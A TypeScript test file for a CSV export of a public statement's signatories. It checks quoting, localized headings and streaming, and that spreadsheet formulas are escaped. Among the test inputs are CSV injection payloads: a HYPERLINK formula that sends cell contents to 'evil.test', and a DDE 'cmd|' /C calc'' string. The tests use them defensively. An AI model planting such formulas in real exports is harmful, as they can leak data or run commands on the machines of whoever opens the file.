import fc from 'fast-check'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { givenOf } from '../../../../src/domain/organisation.ts'
import { streamText } from '../../../../src/held/stream.ts'
import { countryName } from '../../../../src/i18n/index.ts'
import { type CsvForm, csvPieces, listCsv } from '../../../../src/signatories/formats/csv.ts'
import type { Signatory } from '../../../../src/storage/public-statements.ts'
import { tries } from '../../../support/exhaustive.ts'
import { publicSignatory as signatory } from '../../../support/public-statement.ts'

/** RFC 4180 as a reader has it, and strictly: throws on what is not CSV. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let rest = csv
  while (rest !== '') {
    const cell = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest)
    if (!cell) throw new Error(`not CSV: ${JSON.stringify(rest.slice(0, 40))}`)
    row.push(cell[1] === undefined ? (cell[2] ?? '') : cell[1].replaceAll('""', '"'))
    if (cell[3] === '\r\n') {
      rows.push(row)
      row = []
    }
    rest = rest.slice(cell[0].length)
  }
  if (row.length > 0) throw new Error('the last line has no end')
  return rows
}

const form: CsvForm = { publicUrl: 'https://countersign.example', lang: 'en', isForPeople: false }
const rowsOf = (signatories: Signatory[]) => parseCsv(listCsv(form, signatories).slice(1))

it.each(['  @SUM(1)', '\u00A0=1+1', '\u200B=1+1', 'a; \u00A0=1+1'])(
  'a formula behind blanks is none: %j',
  name => {
    const [, row] = rowsOf([signatory({ name })])
    expect(row?.[1]).toMatch(/'[@=]/)
  },
)

describe('the list as CSV', () => {
  const columns =
    'id,name,name_en,name_be,name_ru,country,website,comment,founding,version,signed_on,country_name,url,names,text_language,kind,title,affiliation'.split(
      ',',
    )

  it('begins with a byte order mark and the names of the columns, and ends each line with CRLF', () => {
    const csv = listCsv(form, [signatory()])
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(Uint8Array.of(0xef, 0xbb, 0xbf))
    expect(csv.endsWith('\r\n')).toBe(true)
    expect(rowsOf([])).toEqual([columns])
    expect(rowsOf([signatory()])[1]).toHaveLength(columns.length)
  })

  it('has every value in its column', () => {
    const [, row] = rowsOf([
      signatory({
        id: '4b1f3f5e-5f0e-4a59-9d5c-0d1b7a1c9e11',
        name: 'Human Rights Center “Viasna”',
        names: { en: 'Viasna', be: 'Вясна', ru: 'Весна', ar: 'فياسنا', ka: 'ვიასნა' },
        website: 'https://spring96.org',
        comment: 'a, "b"',
        founding: false,
        version: 2,
        signedOn: '2026-03-02',
        kind: 'person',
        title: 'Editor',
        affiliation: 'PEN',
      }),
    ])
    expect(Object.fromEntries(columns.map((column, i) => [column, row?.[i]]))).toEqual({
      id: '4b1f3f5e-5f0e-4a59-9d5c-0d1b7a1c9e11',
      name: 'Human Rights Center “Viasna”',
      name_en: 'Viasna',
      name_be: 'Вясна',
      name_ru: 'Весна',
      country: 'BY',
      website: 'https://spring96.org',
      comment: 'a, "b"',
      founding: 'false',
      version: '2',
      signed_on: '2026-03-02',
      country_name: 'Belarus',
      url: 'https://countersign.example/s/4b1f3f5e-5f0e-4a59-9d5c-0d1b7a1c9e11',
      names: '{"ar":"فياسنا","ka":"ვიასნა"}',
      text_language: 'en',
      kind: 'person',
      title: 'Editor',
      affiliation: 'PEN',
    })
  })

  it('leaves unknown values empty', () => {
    const [, row] = rowsOf([signatory({ country: null, founding: true, signedOn: null })])
    expect(row?.slice(2, 12)).toEqual(['', '', '', '', '', '', 'true', '1', '', ''])
    expect(row?.slice(13)).toEqual(['', 'en', 'organisation', '', ''])
  })

  it.each([
    { lang: 'en', headings: ['Country', 'Permanent address'], signedAs: 'Signed as', country: 'Belarus' },
    { lang: 'be', headings: ['Краіна', 'Пастаянны адрас'], signedAs: 'Хто падпісаў', country: 'Беларусь' },
    { lang: 'ru', headings: ['Страна', 'Постоянный адрес'], signedAs: 'Кто подписал', country: 'Беларусь' },
  ] as const)('for people has headings and countries in $lang, and the same columns', chosen => {
    const csv = listCsv({ ...form, lang: chosen.lang, isForPeople: true }, [signatory()])
    const [headings, row] = parseCsv(csv.slice(1))
    expect(headings).toHaveLength(columns.length)
    expect(new Set(headings).size).toBe(columns.length)
    expect(headings?.slice(11, 13)).toEqual(chosen.headings)
    expect(headings?.at(-3)).toBe(chosen.signedAs)
    expect(row?.[11]).toBe(chosen.country)
  })

  const formulas = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']

  it.each(formulas)(
    'makes text of a cell that begins with %j, in every column that a stranger fills',
    start => {
      const payload = `${start}HYPERLINK("https://evil.test?"&A1,"x")`
      const text = `'${payload}`
      const [, row] = rowsOf([
        signatory({
          name: payload,
          names: { en: payload, be: payload, ru: payload },
          country: payload,
          website: payload,
          comment: payload,
          title: payload,
          affiliation: payload,
        }),
      ])
      expect(row?.slice(1, 8)).toEqual([text, text, text, text, text, text, text])
      expect(row?.slice(-2)).toEqual([text, text])
    },
  )

  it('makes text of what would be a cell where semicolons part them', () => {
    const [, row] = rowsOf([signatory({ name: 'Foo;=1+1', comment: 'A; "@SUM(1)' })])
    expect([row?.[1], row?.[7]]).toEqual(["Foo;'=1+1", `A; "'@SUM(1)`])
  })

  it.each([';+cmd|x', "; -2+3+cmd|' /C calc'!A0", '\n-HYPERLINK("x")', '; ＋SUM(1)'])(
    'makes text of what would call something there: %j',
    name => {
      expect(rowsOf([signatory({ name })])[1]?.[1]).toMatch(/^[;\n] ?'[-+＋]/)
    },
  )

  it.each(['A=B + C - D @ E', 'Freedom; - and dignity; +375', 'one\n- two\n- three', "'quoted'; it’s ours"])(
    'leaves the same characters alone elsewhere: %j',
    name => {
      expect(rowsOf([signatory({ name, comment: name })])[1]).toMatchObject({ 1: name, 7: name })
    },
  )

  it('comes back from a strict reader, cell by cell, and no cell begins like a formula', () => {
    const text = fc.oneof(
      fc.string({
        unit: fc.constantFrom('"', ',', '\r', '\n', '=', '+', '-', '@', '\t', "'", ' ', 'ў', '＝', ';'),
      }),
      fc.string({ unit: 'grapheme' }),
    )
    const orNull = fc.option(text)
    const signatories = fc.array(
      fc
        .record({
          name: text,
          names: fc.record({ en: orNull, be: orNull, ru: orNull }).map(givenOf),
          country: orNull,
          website: orNull,
          comment: orNull,
          title: orNull,
          affiliation: orNull,
          founding: fc.boolean(),
          signedOn: fc.option(fc.constant('2026-03-02')),
        })
        .map(signatory),
      { maxLength: 5 },
    )
    // What is put before a sign, and by whom: the texts themselves have apostrophes.
    const bare = (value: string | null | undefined) => (value ?? '').replace(/'+(?=[=+\-@\t\r＝＋－＠])/g, '')
    fc.assert(
      fc.property(signatories, list => {
        const rows = rowsOf(list)
        expect(rows.map(row => row.map(bare))).toEqual([
          columns,
          ...list.map(s =>
            [
              s.id,
              s.name,
              s.names.en,
              s.names.be,
              s.names.ru,
              s.country,
              s.website,
              s.comment,
              String(s.founding),
              String(s.version),
              s.signedOn,
              s.country === null ? null : countryName('en', s.country),
              `https://countersign.example/s/${s.id}`,
              null,
              s.textLanguage,
              s.kind,
              s.title,
              s.affiliation,
            ].map(bare),
          ),
        ])
        for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
        // Nor where semicolons part the cells, and our quotes are characters.
        for (const cell of listCsv(form, list).split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^[ "]*[=@＝＠]/)
      }),
      tries(500),
    )
  })
})

describe('the list as CSV, while it is read', () => {
  /** A list in batches, and what has been read of it so far. */
  function readIn(batches: Signatory[][]) {
    const seen = { batches: 0, ended: false }
    async function* read() {
      try {
        for (const batch of batches) {
          seen.batches += 1
          yield batch
        }
      } finally {
        seen.ended = true
      }
    }
    return { read: read(), seen }
  }
  const batches = Array.from({ length: 50 }, (_, i) => [signatory({ name: `One of ${i}` }), signatory()])
  const never = (error: unknown) => {
    throw error
  }

  const streamCsv = (read: AsyncGenerator<Signatory[]>, failed: (error: unknown) => void) =>
    streamText(csvPieces(form, read), 2, failed)

  it('is byte for byte what it is when it is made at once, whatever the batches', async () => {
    for (const some of [batches, [batches.flat()], [...batches, []], [[]]]) {
      const csv = await new Response(await streamCsv(readIn(some).read, never)).bytes()
      expect(csv).toEqual(new TextEncoder().encode(listCsv(form, some.flat())))
    }
  })

  it('reads two batches before it answers, and then no further than its reader', async () => {
    const { read, seen } = readIn(batches)
    const reader = (await streamCsv(read, never)).getReader()
    expect(seen.batches).toBe(2)
    for (let taken = 1; taken <= 10; taken += 1) {
      await reader.read()
      expect(seen.batches).toBeLessThanOrEqual(Math.max(2, taken))
    }
    await reader.cancel()
    expect(seen).toEqual({ batches: 10, ended: true })
  })

  describe('for whoever is slow to take it', () => {
    beforeEach(() => {
      vi.useFakeTimers()
    })
    afterEach(() => {
      vi.useRealTimers()
    })
    /** Pieces of 100 KB, each made after so many milliseconds. */
    async function openLong(made = 0) {
      const seen = { ended: false }
      async function* pieces() {
        try {
          for (;;) {
            await new Promise(resolve => setTimeout(resolve, made))
            yield 'x'.repeat(100 * 1024)
          }
        } finally {
          seen.ended = true
        }
      }
      const opening = streamText(pieces(), 1, never)
      await vi.advanceTimersByTimeAsync(made)
      return { reader: (await opening).getReader(), seen }
    }

    it('is read no further once nothing was taken for a minute', async () => {
      const { reader, seen } = await openLong()
      await reader.read()
      await vi.advanceTimersByTimeAsync(59_999)
      expect(seen.ended).toBe(false)
      await vi.advanceTimersByTimeAsync(1)
      expect(seen.ended).toBe(true)
      await expect(reader.read()).rejects.toThrow('nobody reads on')
    })

    it('nor where it is drop by drop, however even', async () => {
      const { reader, seen } = await openLong()
      for (let i = 0; i < 5; i += 1) {
        await vi.advanceTimersByTimeAsync(11_000)
        const reading = reader.read()
        await vi.advanceTimersByTimeAsync(1)
        const { value } = await reading
        expect(value?.length).toBeLessThanOrEqual(32 * 1024)
      }
      expect(seen.ended).toBe(false)
      await vi.advanceTimersByTimeAsync(11_000)
      expect(seen.ended).toBe(true)
    })

    it('goes on at 8 KB a second, as a telephone far from its mast has it', async () => {
      const { reader, seen } = await openLong()
      for (let i = 0; i < 100; i += 1) {
        await vi.advanceTimersByTimeAsync(4000)
        const reading = reader.read()
        await vi.advanceTimersByTimeAsync(1)
        expect((await reading).done).toBe(false)
      }
      expect(seen.ended).toBe(false)
      await reader.cancel()
    })

    it('goes on where the database is slow and not the reader', async () => {
      const { reader, seen } = await openLong(90_000)
      for (let i = 0; i < 12; i += 1) {
        const reading = reader.read()
        // Each fourth part is the last of a piece, and the next one has to be made.
        await vi.advanceTimersByTimeAsync(i > 0 && i % 4 === 0 ? 90_000 : 1)
        expect((await reading).done).toBe(false)
      }
      expect(seen.ended).toBe(false)
      await reader.cancel()
    })
  })

  it('is nobody’s trouble where its reader goes away in the middle of a batch', async () => {
    const { promise, resolve } = Promise.withResolvers<void>()
    async function* slow() {
      yield* batches.slice(0, 2)
      await promise
      yield batches[2] ?? []
    }
    const reader = (await streamCsv(slow(), never)).getReader()
    await reader.read()
    await reader.read()
    const read = reader.read()
    const gone = reader.cancel()
    resolve()
    expect(await read).toEqual({ done: true, value: undefined })
    await gone
  })

  async function* failing(after: number) {
    yield* batches.slice(0, after)
    throw new Error('params: canary@example.org')
  }

  it('does not begin where the list cannot be read', async () => {
    await expect(streamCsv(failing(1), never)).rejects.toThrow()
  })

  it('breaks off, rather than ends, where it cannot be read on, and quotes nobody', async () => {
    const said: unknown[] = []
    const csv = new Response(await streamCsv(failing(3), error => said.push(error))).text()
    await expect(csv).rejects.toThrow(/^the text broke off$/)
    expect(said).toHaveLength(1)
  })
})
